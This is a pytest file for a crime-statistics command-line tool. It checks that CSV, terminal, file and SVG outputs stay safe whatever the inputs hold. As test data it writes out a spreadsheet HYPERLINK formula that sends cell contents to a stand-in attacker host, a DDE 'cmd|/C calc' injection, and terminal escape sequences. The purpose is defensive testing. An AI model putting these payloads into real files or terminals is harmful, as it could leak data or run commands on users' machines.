"""Hostile outputs (issue 13): what the tool writes must be safe whatever the inputs say.

CSV cells a spreadsheet would run as formulas are neutralised in every CSV writer; escape
sequences never reach a terminal or a file; ``-o`` never replaces what it should write to;
every SVG is well-formed XML, with names shown as written. Expected values are written out
by hand from the inputs each test builds.
"""

from __future__ import annotations

import csv
import io
import json
import os
import stat
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest
from click.testing import CliRunner

from policing_cli.cli import main

LINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def run(*args: object) -> object:
    """The command's result, with a private cache folder per test (the autouse fixture)."""
    return CliRunner().invoke(main, [str(a) for a in args])


def write_counts(path: Path, rows: list[tuple[str, str, str, int]]) -> Path:
    """A tidy counts file ``area,period,category,count`` (monthly periods), written with the
    csv module so that any name, quotes and commas included, is one field."""
    with path.open("w", newline="", encoding="utf-8") as out:
        writer = csv.writer(out)
        writer.writerow(["area", "period", "category", "count"])
        writer.writerows(rows)
    return path


def monthly(area: str, category: str, per_month_2023: int, per_month_2024: int) -> list:
    """Twelve months of 2023 and twelve of 2024, the same count each month."""
    return [(area, f"2023-{m:02d}", category, per_month_2023) for m in range(1, 13)] + [
        (area, f"2024-{m:02d}", category, per_month_2024) for m in range(1, 13)
    ]


# -- 1. CSV formula injection -----------------------------------------------------------------


def formula_counts(tmp_path: Path) -> Path:
    # LINK: 2 a month in 2023 (24), 1 a month in 2024 (12): change -12, -50%.
    # SUM: 1 a month in 2023 (12), 2 a month in 2024 (24): change +12, +100%.
    return write_counts(
        tmp_path / "formulas.csv",
        monthly(LINK, "+Robbery", 2, 1) + monthly(SUM, "+Robbery", 1, 2),
    )


def csv_rows(result) -> list[list[str]]:
    assert result.exit_code == 0, result.output
    return list(csv.reader(io.StringIO(result.stdout)))


def assert_no_formula(rows: list[list[str]]) -> None:
    """No cell a spreadsheet would run: text cells starting with a formula character are
    quoted; a cell starting with "-" or "+" must be a plain number."""
    for row in rows:
        for cell in row:
            if cell.startswith(FORMULA_START):
                float(cell)  # a number (-12, -50.0) stays a number; anything else fails


def test_rank_csv_quotes_formulas_and_writes_numbers(tmp_path):
    data = formula_counts(tmp_path)
    rows = csv_rows(run("rank", "--category", "+Robbery", "--period", "2024", "--data", data,
                        "--format", "csv", "--no-cache"))  # fmt: skip
    assert_no_formula(rows)
    assert rows == [
        ["rank", "area", "2024", "2023", "change", "pct_change", "pct_change_mark",
         "per_1000_2024"],
        ["1", "'" + LINK, "12", "24", "-12", "-50.0", "", ""],
        ["2", "'" + SUM, "24", "12", "12", "100.0", "", ""],
    ]  # fmt: skip


def test_rank_text_keeps_its_rounded_percentages(tmp_path):
    data = formula_counts(tmp_path)
    result = run("rank", "--category", "+Robbery", "--period", "2024", "--data", data,
                 "--format", "text", "--no-cache")  # fmt: skip
    assert result.exit_code == 0, result.output
    assert "-50.0%" in result.stdout and "+100.0%" in result.stdout


def test_rank_csv_writes_a_break_mark_beside_the_number():
    # The bundled 2010-2023 file: residential burglary's definition changed in April 2017,
    # so every change of 2017/18 against 2016/17 is marked [b] (README, breaks table).
    from tests.conftest import SAMPLE

    data = SAMPLE / "MPS_Borough_Level_Crime_Historical_2010-04_to_2023-09.csv"
    rows = csv_rows(run("rank", "--period", "2017/18", "--category", "Residential burglary",
                        "--data", data, "--format", "csv"))  # fmt: skip
    header = rows[0]
    assert header[5:7] == ["pct_change", "pct_change_mark"]
    ranked = [row for row in rows[1:] if row[0]]
    assert ranked and all(row[6] == "[b]" for row in ranked)
    assert all(float(row[5]) == float(row[5]) for row in ranked)  # a number, not "+5.0% [b]"


def test_compare_csv_quotes_formulas_and_writes_numbers(tmp_path):
    data = formula_counts(tmp_path)
    rows = csv_rows(run("compare", LINK, SUM, "--period", "2024", "--data", data,
                        "--format", "csv", "--no-cache"))  # fmt: skip
    assert_no_formula(rows)
    assert rows[0] == ["category", f"'{LINK} 2024", f"'{LINK} %", f"'{SUM} 2024", f"'{SUM} %"]
    assert ["'+Robbery", "12", "-50.0", "24", "100.0"] in rows


def test_areas_csv_quotes_formulas(tmp_path):
    rows = csv_rows(run("areas", "--data", formula_counts(tmp_path), "--format", "csv",
                        "--no-cache"))  # fmt: skip
    assert_no_formula(rows)
    assert [row[:2] for row in rows] == [
        ["area", "kind"], ["'" + LINK, "borough"], ["'" + SUM, "borough"],
    ]  # fmt: skip
    assert rows[1][2:] == ["", "2023-01", "2024-12", "24", ""]


def test_categories_csv_quotes_formulas(tmp_path):
    rows = csv_rows(run("categories", "--data", formula_counts(tmp_path), "--format", "csv",
                        "--no-cache"))  # fmt: skip
    assert_no_formula(rows)
    assert ["'+Robbery", "'+Robbery", ""] in rows


def test_periods_csv_writes_numbers(tmp_path):
    rows = csv_rows(run("periods", "--data", formula_counts(tmp_path), "--format", "csv",
                        "--no-cache"))  # fmt: skip
    assert_no_formula(rows)
    assert ["2024", "calendar year", "Jan 2024 - Dec 2024", "12", "yes", ""] in rows


def test_trend_csv_writes_numbers(tmp_path):
    data = write_counts(tmp_path / "trend.csv", monthly(LINK, "-Robbery", 2, 1))
    rows = csv_rows(run("trend", LINK, "--category", "-Robbery", "--months", "2",
                        "--data", data, "--format", "csv", "--no-cache"))  # fmt: skip
    assert_no_formula(rows)
    # 2024-12: 1; the 12 months to it: 12 x 1 = 12. 2024-11: 1; 11 x 1 + 2 (2023-12) = 13.
    assert rows == [["month", "count", "rolling_12_months"], ["2024-11", "1", "13"],
                    ["2024-12", "1", "12"]]  # fmt: skip


def test_report_csv_quotes_formulas_and_writes_numbers(tmp_path):
    data = formula_counts(tmp_path)
    rows = csv_rows(run("report", SUM, "--period", "2024", "--data", data, "--format", "csv",
                        "--no-cache"))  # fmt: skip
    assert_no_formula(rows)
    robbery = next(row for row in rows if row[3] == "'+Robbery")
    assert robbery[:8] == ["'" + SUM, "2024", "2023", "'+Robbery", "24", "12", "12", "100.0"]


def test_one_function_neutralises_every_formula_start():
    from fractions import Fraction

    from policing_cli.renderers.escape import spreadsheet_cell

    assert [spreadsheet_cell(t) for t in ["=1+1", "+1", "-1", "@A1", "\t=1", "\r=1", " =1"]] == [
        "'=1+1", "'+1", "'-1", "'@A1", "'\\x09=1", "'\\x0d=1", "' =1",
    ]  # fmt: skip
    assert [spreadsheet_cell(v) for v in [-5, Fraction(-1, 20), None, "# heading"]] == [
        -5, -0.05, "", "# heading",
    ]  # fmt: skip


# -- 2. Escape sequences never reach the terminal ---------------------------------------------

#: An OSC title change ended by BEL, a CSI colour, and the one-byte C1 CSI.
ESCAPES = "\x1b]0;pwned\x07\x1b[31m\x9b2J"
STREET_HEADER = (
    "Crime ID,Month,Reported by,Falls within,Longitude,Latitude,Location,LSOA code,"
    "LSOA name,Crime type,Last outcome category,Context\n"
)
STREET_ROW = "x,2024-12,Kent Police,Kent Police,1,2,On or near X,E01,Dover 001A,Robbery,,\n"


def assert_no_raw_controls(*texts: str) -> None:
    """Nothing a terminal would act on: no C0 control but the line break, no DEL, no C1."""
    for text in texts:
        raw = sorted({ch for ch in text if (ord(ch) < 32 and ch != "\n") or 127 <= ord(ch) < 160})
        assert not raw, (raw, text)


def test_street_error_quoting_a_bad_row_shows_its_escapes(tmp_path):
    path = tmp_path / "2024-12-kent-street.csv"
    # The second row is cut off: arrow's error quotes it, escapes and all.
    path.write_text(STREET_HEADER + STREET_ROW + f"y,2024-12,Kent Police,{ESCAPES}\n")
    result = run("areas", "--data", path, "--no-cache")
    assert result.exit_code == 1
    assert_no_raw_controls(result.stdout, result.stderr)
    assert result.stderr == (
        f"Error: {path}:3: is not a valid street-level CSV: CSV parse error: Expected 12 "
        "columns, got 4: y,2024-12,Kent Police,\\x1b]0;pwned\\x07\\x1b[31m\\x9b2J "
        "(is the file cut off?)\n"
    )


def test_zip_member_names_show_their_escapes(tmp_path):
    import zipfile

    skipped, bad = tmp_path / "skipped.zip", tmp_path / "bad.zip"
    with zipfile.ZipFile(skipped, "w") as out:
        out.writestr("2024-12/2024-12-kent-street.csv", STREET_HEADER + STREET_ROW)
        out.writestr(f"2024-12/2024-12-{ESCAPES}-outcomes.csv", "a,b\n")  # skipped: a note
    with zipfile.ZipFile(bad, "w") as out:
        out.writestr(f"2024-11/2024-11-{ESCAPES}-street.csv", STREET_HEADER + "cut,off\n")
    result = run("areas", "--data", skipped, "--no-cache", "--format", "csv")
    assert result.exit_code == 0, result.output
    assert_no_raw_controls(result.stdout, result.stderr)
    assert result.stderr == (
        "note: skipped 1 file(s) that hold no street crime counts: skipped.zip:2024-12/"
        "2024-12-\\x1b]0;pwned\\x07\\x1b[31m\\x9b2J-outcomes.csv\n"
    )
    result = run("areas", "--data", bad, "--no-cache")
    assert result.exit_code == 1
    assert_no_raw_controls(result.stdout, result.stderr)
    assert result.stderr.startswith(
        f"Error: {bad}:2024-11/2024-11-\\x1b]0;pwned\\x07\\x1b[31m\\x9b2J-street.csv:2: "
    )


def test_file_names_found_in_a_data_folder_show_their_escapes(tmp_path):
    folder = tmp_path / "data"
    folder.mkdir()
    (folder / f"counts{ESCAPES}.csv").write_text("a,b,c\n1,2,3\n")
    result = run("periods", "--data", folder, "--no-cache")
    assert result.exit_code == 1
    assert_no_raw_controls(result.stdout, result.stderr)
    assert result.stderr.startswith(
        f"Error: {folder}/counts\\x1b]0;pwned\\x07\\x1b[31m\\x9b2J.csv:1: unknown layout"
    )


def test_usage_errors_quoting_an_argument_show_its_escapes(tmp_path):
    data = write_counts(tmp_path / "counts.csv", monthly("Bexley", "Robbery", 1, 1))
    for args in (["report", f"no{ESCAPES}where"], ["report", "bexley", "--period", ESCAPES],
                 ["trend", "bexley", "--category", ESCAPES], [f"no{ESCAPES}such"]):  # fmt: skip
        result = run(*args, "--data", data, "--no-cache")
        assert result.exit_code == 2, result.output
        assert_no_raw_controls(result.stdout, result.stderr)
        assert "\\x1b]0;pwned\\x07" in result.stderr


def test_notes_quoting_file_names_show_their_escapes(tmp_path):
    # The same months twice, in two files: the note names both.
    rows = monthly("Bexley", "Robbery", 1, 1)
    write_counts(tmp_path / f"a{ESCAPES}.csv", rows)
    write_counts(tmp_path / "b.csv", rows)
    result = run("areas", "--data", tmp_path, "--no-cache", "--format", "csv")
    assert result.exit_code == 0, result.output
    assert_no_raw_controls(result.stdout, result.stderr)
    assert "note: " in result.stderr and "a\\x1b]0;pwned\\x07\\x1b[31m\\x9b2J.csv" in result.stderr


def test_snapshot_error_and_verbose_lines_and_index_show_their_escapes(tmp_path):
    name = f"Evil{ESCAPES}"
    data = write_counts(tmp_path / "counts.csv",
                        monthly(name, "Robbery", 2, 1) + monthly("Bexley", "Robbery", 1, 1))  # fmt: skip
    out = tmp_path / "reports"
    # The area's file name (slug: "evil-0-pwned-31m2j") is taken by a folder: the area fails.
    (out / "2024").mkdir(parents=True)
    (out / "2024" / "evil-0-pwned-31m2j.md").mkdir()
    result = run("snapshot", "--period", "2024", "--out", out, "--data", data, "--no-cache",
                 "--format", "markdown,html,json,text,csv", "-v")  # fmt: skip
    assert result.exit_code == 1, result.output
    assert_no_raw_controls(result.stdout, result.stderr)
    shown = "Evil\\x1b]0;pwned\\x07\\x1b[31m\\x9b2J"
    assert f"\nError: {shown}: " in result.stderr and f"failed {shown}: " in result.stderr
    for path in (out / "2024").iterdir():
        if path.is_file():
            assert_no_raw_controls(path.read_text(encoding="utf-8"))
    index = (out / "2024" / "index.html").read_text(encoding="utf-8")
    assert f"<h2>Areas that failed</h2>\n<ul><li>{shown}: " in index


def test_validate_shows_escapes_in_text_and_json(tmp_path):
    path = tmp_path / f"x{ESCAPES}.csv"
    path.write_text("a,b,c\n1,2,3\n")
    for fmt in ("text", "json"):
        result = run("validate", path, "--format", fmt)
        assert result.exit_code == 1
        assert_no_raw_controls(result.stdout, result.stderr)
        assert "pwned" in result.stdout


def test_listing_titles_are_data_in_every_format(tmp_path):
    name = f"[bold]Evil{ESCAPES}"
    data = write_counts(tmp_path / "counts.csv", monthly(name, "Robbery", 2, 1))
    for fmt in ("table", "text", "markdown", "html", "json", "csv"):
        result = run("compare", name, "--period", "2024", "--data", data, "--no-cache",
                     "--format", fmt)  # fmt: skip
        assert result.exit_code == 0, result.output
        assert_no_raw_controls(result.stdout, result.stderr)
        assert "[bold]" in result.stdout or "\\[bold\\]" in result.stdout, fmt


# -- 3. -o never replaces what it should write to ---------------------------------------------


SAMPLE_REPORT = ["report", "bexley", "--period", "2023/24", "--format", "markdown"]


def exactly_this_error(result, expected: str) -> None:
    """The whole of stderr is this one error line."""
    assert result.exit_code == 1, result.output
    assert result.stdout == ""
    assert result.stderr == f"Error: {expected}\n"


def no_temporary_files(folder: Path) -> None:
    assert not [p.name for p in folder.iterdir() if p.name.endswith(".tmp")]


def test_dash_is_standard_output(tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)  # where a file named "-" would be made
    result = run(*SAMPLE_REPORT, "-o", "-")
    assert result.exit_code == 0, result.output
    assert result.stdout.startswith("## Bexley")
    assert list(tmp_path.iterdir()) == []


def test_dash_is_standard_output_for_a_table_too():
    result = run("report", "bexley", "--period", "2023/24", "--format", "table", "-o", "-")
    assert result.exit_code == 0, result.output
    assert "Residential burglary" in result.stdout and "\u2501" in result.stdout  # rich's rules


def test_dash_is_standard_output_for_map_and_chart():
    for args in (["map", "-o", "-"], ["trend", "bexley", "--months", "12", "-o", "-"]):
        result = run(*args)
        assert result.exit_code == 0, result.output
        assert ET.fromstring(result.stdout_bytes).tag == "{http://www.w3.org/2000/svg}svg"
        assert "wrote" not in result.stderr


def test_a_symbolic_link_is_written_through(tmp_path):
    target = tmp_path / "real" / "report.md"
    target.parent.mkdir()
    target.write_text("old\n")
    link = tmp_path / "link.md"
    link.symlink_to(target)
    result = run(*SAMPLE_REPORT, "-o", link)
    assert result.exit_code == 0, result.output
    assert link.is_symlink() and os.readlink(link) == str(target)
    assert target.read_text().startswith("## Bexley")
    no_temporary_files(tmp_path)
    no_temporary_files(target.parent)


def test_a_link_to_a_file_not_made_yet_makes_it(tmp_path):
    target = tmp_path / "new.svg"
    link = tmp_path / "link.svg"
    link.symlink_to(target)
    result = run("map", "-o", link)
    assert result.exit_code == 0, result.output
    assert link.is_symlink() and target.read_text().startswith("<svg")


def test_a_chart_is_written_through_a_link(tmp_path):
    target = tmp_path / "chart.png"
    target.write_bytes(b"old")
    link = tmp_path / "link.png"
    link.symlink_to(target)
    result = run("trend", "bexley", "--months", "12", "-o", link)
    assert result.exit_code == 0, result.output
    assert link.is_symlink() and target.read_bytes().startswith(b"\x89PNG")


def character_device(tmp_path: Path) -> Path:
    """A null device to write to: a copy of /dev/null made in tmp_path where the system
    allows it (root), else /dev/null itself (which a user cannot replace anyway)."""
    clone = tmp_path / "null"
    try:
        os.mknod(clone, stat.S_IFCHR | 0o666, os.makedev(1, 3))
    except PermissionError:
        if os.geteuid() == 0:
            pytest.skip("root without CAP_MKNOD: /dev/null itself must not be put at risk")
        return Path("/dev/null")
    return clone


def test_a_character_device_is_written_to_not_replaced(tmp_path):
    device = character_device(tmp_path)
    for args in (SAMPLE_REPORT, ["map"]):
        result = run(*args, "-o", device)
        assert result.exit_code == 0, result.output
        assert result.stderr == ("" if args == SAMPLE_REPORT else f"wrote {device}\n")
        assert stat.S_ISCHR(os.stat(device).st_mode)
    no_temporary_files(tmp_path)


def test_a_fifo_is_refused(tmp_path):
    fifo = tmp_path / "pipe.md"
    os.mkfifo(fifo)
    result = run(*SAMPLE_REPORT, "-o", fifo)
    exactly_this_error(result, f"{fifo}: is a named pipe (FIFO), not a regular file: not written "
                           "(-o - writes to standard output)")  # fmt: skip
    assert stat.S_ISFIFO(os.stat(fifo).st_mode)
    no_temporary_files(tmp_path)


def test_a_socket_is_refused(tmp_path):
    import socket

    path = tmp_path / "s.svg"
    server = socket.socket(socket.AF_UNIX)
    server.bind(str(path))
    try:
        exactly_this_error(
            run("map", "-o", path), f"{path}: is a socket, not a regular file: not written"
        )
        assert stat.S_ISSOCK(os.stat(path).st_mode)
    finally:
        server.close()


def test_a_link_to_a_folder_is_refused(tmp_path):
    folder = tmp_path / "folder"
    folder.mkdir()
    link = tmp_path / "out.md"
    link.symlink_to(folder)
    result = run(*SAMPLE_REPORT, "-o", link)
    # click sees the folder the link leads to first: a usage error (exit 2), as for a folder.
    assert result.exit_code == 2 and "is a directory" in result.stderr
    assert link.is_symlink() and folder.is_dir()


def test_a_read_only_file_is_refused(tmp_path):
    path = tmp_path / "report.md"
    path.write_text("keep me\n")
    path.chmod(0o444)
    exactly_this_error(run(*SAMPLE_REPORT, "-o", path), f"{path}: is read-only: not replaced")
    assert path.read_text() == "keep me\n"
    link = tmp_path / "link.md"
    link.symlink_to(path)
    exactly_this_error(run(*SAMPLE_REPORT, "-o", link),
                   f"{link} (a link to {path}): is read-only: not replaced")  # fmt: skip
    assert path.read_text() == "keep me\n"
    no_temporary_files(tmp_path)


def test_a_hard_linked_file_is_refused(tmp_path):
    path = tmp_path / "report.md"
    path.write_text("keep me\n")
    os.link(path, tmp_path / "other-name.md")
    exactly_this_error(
        run(*SAMPLE_REPORT, "-o", path),
        f"{path}: has 2 hard links: replacing it would leave the other names with the old "
        "content; remove them (or write elsewhere) first",
    )
    assert (tmp_path / "other-name.md").read_text() == "keep me\n"
    assert os.stat(path).st_nlink == 2
    no_temporary_files(tmp_path)


def test_a_replaced_file_keeps_its_permissions(tmp_path):
    path = tmp_path / "private.md"
    path.write_text("old\n")
    path.chmod(0o600)
    result = run(*SAMPLE_REPORT, "-o", path)
    assert result.exit_code == 0, result.output
    assert stat.S_IMODE(os.stat(path).st_mode) == 0o600
    assert path.read_text().startswith("## Bexley")


def test_snapshot_refuses_a_fifo_in_its_folder_without_waiting_on_it(tmp_path):
    """Reading the old file to compare would block on a FIFO for ever: it is refused first."""
    import threading

    out = tmp_path / "reports"
    (out / "2023-24").mkdir(parents=True)
    fifo = out / "2023-24" / "bexley.md"
    os.mkfifo(fifo)
    results: list = []
    worker = threading.Thread(
        target=lambda: results.append(run("snapshot", "--period", "2023/24", "--out", out, "-q")),
        daemon=True,
    )
    worker.start()
    worker.join(60)
    if worker.is_alive():  # blocked reading the FIFO: open its other end to let it go
        os.close(os.open(fifo, os.O_WRONLY | os.O_NONBLOCK))
        worker.join(120)
        pytest.fail("snapshot waited on the FIFO")
    (result,) = results
    assert result.exit_code == 1
    assert result.stderr == (
        f"Error: Bexley: {fifo}: is a named pipe (FIFO), not a regular file: not written "
        "(-o - writes to standard output)\n"
    )
    assert stat.S_ISFIFO(os.stat(fifo).st_mode)


# -- 4. Every SVG is well-formed, names shown as written ---------------------------------------


SVG = "{http://www.w3.org/2000/svg}"
SQUARE = [[[530000, 180000], [531000, 180000], [531000, 181000], [530000, 181000],
           [530000, 180000]]]  # fmt: skip


def boundaries(tmp_path: Path, text: str) -> Path:
    path = tmp_path / "boundaries.geojson"
    path.write_text(text, encoding="utf-8")
    return path


def feature(name: object, coordinates: object = SQUARE) -> dict:
    return {"type": "Feature", "properties": {"NAME": name},
            "geometry": {"type": "Polygon", "coordinates": coordinates}}  # fmt: skip


def collection(*features: dict) -> str:
    return json.dumps({"type": "FeatureCollection", "features": list(features)})


def test_map_name_with_control_characters_is_shown_and_the_svg_parses(tmp_path):
    path = boundaries(tmp_path, collection(feature("Bex\x01ley\x1b[31m"), feature("Bromley")))
    out = tmp_path / "map.svg"
    result = run("map", "--boundaries", path, "-o", out, "--category", "Total robbery")
    assert result.exit_code == 0, result.output
    root = ET.fromstring(out.read_bytes())
    titles = [t.text for t in root.iter(f"{SVG}title")]
    assert "Bex\\x01ley\\x1b[31m: no figure" in titles
    assert all(p.get("d") for p in root.iter(f"{SVG}path"))  # every borough drawn


def test_map_title_from_the_command_line_is_shown_and_the_svg_parses(tmp_path):
    out = tmp_path / "map.svg"
    result = run("map", "-o", out, "--category", "total robbery")
    assert result.exit_code == 0, result.output
    root = ET.fromstring(out.read_bytes())
    assert next(root.iter(f"{SVG}text")).text.startswith("total robbery, ")


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        # json reads 1e999 as infinity; NaN is a literal Python's json accepts.
        (collection(feature("Bexley", [[[0, 0], [1e999, 0], [1, 1], [0, 0]]])).replace(
            "Infinity", "1e999"),
         "feature 1 (Bexley): position [Infinity, 0] is not [x, y] in finite numbers "
         "(metres, EPSG:27700)"),
        (collection(feature("Bexley"), feature("Bromley", [[[0, 0], [float("nan"), 1], [1, 1]]])),
         "feature 2 (Bromley): position [NaN, 1] is not [x, y] in finite numbers "
         "(metres, EPSG:27700)"),
        (collection(feature("Bexley", [[[0, 0], [10**400, 0], [1, 1]]])),
         # (the position cut to 40 characters: "[1", 35 zeros, "...")
         f"feature 1 (Bexley): position [1{'0' * 35}... is not [x, y] in finite numbers "
         "(metres, EPSG:27700)"),
        (collection(feature(123)), "feature 1: NAME is 123: expected the area's name as text"),
        (collection(feature(None)), "feature 1: NAME is null: expected the area's name as text"),
        (collection(), "holds no features: expected the boroughs' boundaries"),
        (collection(feature("Bexley", [[["530000", "180000"], [1, 2], [3, 4]]])),
         'feature 1 (Bexley): position ["530000", "180000"] is not [x, y] in finite numbers '
         "(metres, EPSG:27700)"),
        (collection(feature("Bexley", [[[5, 5], [5, 5], [5, 5]]])),
         "coordinates span 0 by 0: expected an area to draw"),
        ('{"type": "FeatureCollection"}',
         'is not a GeoJSON FeatureCollection (no "features" list)'),
        ("{", "1:2: is not JSON (Expecting property name enclosed in double quotes): expected "
              "GeoJSON"),
    ],
    ids=["inf", "nan", "huge-integer", "numeric-name", "null-name", "no-features", "string-coordinates",
         "one-point", "no-features-list", "not-json"],
)  # fmt: skip
def test_bad_boundaries_are_a_exactly_this_error(tmp_path, text, problem):
    path = boundaries(tmp_path, text)
    out = tmp_path / "map.svg"
    result = run("map", "--boundaries", path, "-o", out)
    separator = "" if problem[0].isdigit() else " "
    exactly_this_error(result, f"{path}:{separator}{problem}")
    assert not out.exists()


def trend_data(tmp_path: Path, category: str) -> Path:
    return write_counts(tmp_path / "counts.csv", monthly("Bexley", category, 3, 2))


def test_chart_with_a_control_character_in_a_name_parses(tmp_path):
    data = trend_data(tmp_path, "Bad\x01name")
    out = tmp_path / "chart.svg"
    result = run("trend", "bexley", "--category", "Bad\x01name", "--data", data, "--no-cache",
                 "-o", out)  # fmt: skip
    assert result.exit_code == 0, result.output
    assert result.stderr == f"wrote {out}\n"  # no warning about a missing glyph
    svg = out.read_text(encoding="utf-8")
    ET.fromstring(svg)
    assert "Bexley: Bad\\x01name" in svg


def test_chart_shows_dollars_as_written(tmp_path, monkeypatch):
    import matplotlib

    # Text as <text> elements rather than glyph outlines, so the title can be read back.
    monkeypatch.setitem(matplotlib.rcParams, "svg.fonttype", "none")
    data = trend_data(tmp_path, "Theft $100-$500")
    out = tmp_path / "chart.svg"
    result = run("trend", "bexley", "--category", "Theft $100-$500", "--data", data,
                 "--no-cache", "-o", out)  # fmt: skip
    assert result.exit_code == 0, result.output
    root = ET.fromstring(out.read_bytes())
    texts = ["".join(t.itertext()) for t in root.iter(f"{SVG}text")]
    assert "Bexley: Theft $100-$500" in texts


def test_chart_ignores_a_matplotlibrc_asking_for_tex(tmp_path, monkeypatch):
    import matplotlib

    monkeypatch.setitem(matplotlib.rcParams, "text.usetex", True)  # no TeX installed here
    data = trend_data(tmp_path, "Theft $100 & 50% #1")
    out = tmp_path / "chart.svg"
    result = run("trend", "bexley", "--category", "Theft $100 & 50% #1", "--data", data,
                 "--no-cache", "-o", out)  # fmt: skip
    assert result.exit_code == 0, result.output
    ET.fromstring(out.read_bytes())


def test_messages_stay_one_line_whatever_they_quote(tmp_path):
    # The same months in two files: the note names both, one with a line break in its name.
    rows = monthly("Bexley", "Robbery", 1, 1)
    write_counts(tmp_path / "a\nnote: forged.csv", rows)
    write_counts(tmp_path / "b.csv", rows)
    result = run("areas", "--data", tmp_path, "--no-cache", "--format", "csv")
    assert result.exit_code == 0, result.output
    assert len(result.stderr.splitlines()) == 1
    assert result.stderr.startswith("note: ") and "a\\x0anote: forged.csv" in result.stderr
